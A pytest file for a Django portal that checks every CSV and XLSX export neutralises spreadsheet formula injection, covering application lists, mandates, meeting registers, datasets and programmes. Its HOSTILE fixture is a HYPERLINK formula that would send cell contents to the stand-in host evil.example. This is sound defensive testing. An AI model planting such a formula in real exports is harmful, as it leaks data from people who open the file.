"""No spreadsheet the portal writes carries a live formula, whoever typed the text.

An organisation named ``=HYPERLINK(…)`` (and other hostile text: a line title, an opinion, a
data source) goes through every CSV and XLSX export; every text cell of every file must come
out inert (``ess_metro.exports.neutralise``), and every export URL of the portal must be
walked here (``test_every_export_url_is_walked``).
"""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from demo.factories.calls import application_in
from demo.factories.communication import DatasetFactory, add_rows
from demo.factories.core import MandateFactory, OrganisationFactory
from demo.factories.governance import AgendaItemFactory, MeetingFactory
from demo.factories.programme import IndicatorFactory, LineFactory, ProgrammeFactory
from governance.models import Mandate, Presence
from projects.models import ApplicationStatus
from tests.governance.conftest import record

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez ici")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _cells(response) -> list:
    """Every cell of the file: (value, is_formula)."""
    body = response.getvalue()
    if response["Content-Type"].startswith("text/csv"):
        rows = csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";")
        return [(value, False) for row in rows for value in row]
    workbook = load_workbook(io.BytesIO(body))
    return [
        (cell.value, cell.data_type == "f")
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def assert_inert(response) -> None:
    assert response.status_code == 200
    cells = _cells(response)
    assert not [value for value, is_formula in cells if is_formula]
    live = [value for value, _ in cells if isinstance(value, str) and value.startswith(TRIGGERS)]
    assert not live, live
    assert any(isinstance(value, str) and HOSTILE in value for value, _ in cells), "not walked"


@pytest.fixture
def hostile(db):
    return OrganisationFactory(name=HOSTILE)


def _applications(hostile, clients):
    application_in(ApplicationStatus.SUBMITTED, organisation=hostile, partners="@SUM(1+1)")
    url = reverse("projects:staff_application_list")
    return [(clients["staff"], url, {"export": kind}) for kind in ("csv", "xlsx")]


def _background(hostile, clients, settings):
    """A large export is built by the worker: its download is walked too."""
    from ess_metro.models import ExportJob

    settings.EXPORT_SYNC_MAX_ROWS = 0
    urls = []
    for kind in ("csv", "xlsx"):
        clients["staff"].get(reverse("projects:staff_application_list"), {"export": kind})
        job = ExportJob.objects.latest("pk")
        urls.append((clients["staff"], reverse("export_job_download", args=[job.pk]), {}))
    settings.EXPORT_SYNC_MAX_ROWS = 500
    return urls


def _mandates(hostile, clients):
    MandateFactory(organisation=hostile)
    return [(clients["staff"], reverse("governance:mandate_export"), {})]


def _register(hostile, clients, staff):
    from governance import services

    meeting = MeetingFactory()
    item = AgendaItemFactory(meeting=meeting, topic=HOSTILE)
    services.meeting_convene(meeting=meeting, user=staff, send=False)
    meeting.refresh_from_db()
    record(meeting, staff, dict.fromkeys(Mandate.objects.active(), Presence.PRESENT))
    services.opinion_record(item=item, user=staff, outcome="favourable", text=HOSTILE, votes={})
    return [(clients["committee"], reverse("governance:register_csv"), {})]


def _dataset(hostile, clients):
    dataset = DatasetFactory(source=HOSTILE)
    add_rows(dataset, 3)
    return [(clients["anonymous"], reverse("communication:dataset_csv", args=[dataset.pk]), {})]


def _programme(hostile, clients):
    programme = ProgrammeFactory(year=2025, published=True, title="+33 programme")
    line = LineFactory(programme=programme, title="-5 €", beneficiary=hostile)
    IndicatorFactory(line=line, label=HOSTILE, unit="@", target=Decimal("-3"))
    return [(clients["anonymous"], reverse("programme:programme_xlsx", args=[2025]), {})]


def test_every_export_is_inert(hostile, role_clients, staff, settings):
    requests = [
        *_applications(hostile, role_clients),
        *_background(hostile, role_clients, settings),
        *_mandates(hostile, role_clients),
        *_register(hostile, role_clients, staff),
        *_dataset(hostile, role_clients),
        *_programme(hostile, role_clients),
    ]
    for client, url, params in requests:
        assert_inert(client.get(url, params))


# Every URL that answers with a spreadsheet, by name; an export added without a case above
# fails the test below. The staff list of files exports through ``?export=csv|xlsx``.
WALKED = {
    "projects:staff_application_list",
    "governance:mandate_export",
    "governance:register_csv",
    "communication:dataset_csv",
    "programme:programme_xlsx",
    "export_job_download",
}
# HTML pages about background exports (their files are ``export_job_download``).
PAGES = {"export_jobs", "export_job"}


def _names(patterns, prefix=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            namespace = f"{prefix}{pattern.namespace}:" if pattern.namespace else prefix
            yield from _names(pattern.url_patterns, namespace)
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield f"{prefix}{pattern.name}", str(pattern.pattern)


def test_every_export_url_is_walked():
    exports = {
        name
        for name, route in _names(get_resolver().url_patterns)
        if any(word in route for word in ("csv", "xlsx", "export"))
    }
    # The SCDL subsidy file is machine-readable open data: it keeps raw values, properly quoted
    # (a leading apostrophe would falsify it); tests/rights checks that a formula stays a
    # string in its cell.
    OPEN_DATA = {"projects:subsidies_csv"}
    assert exports - OPEN_DATA - PAGES <= WALKED, exports - OPEN_DATA - PAGES - WALKED
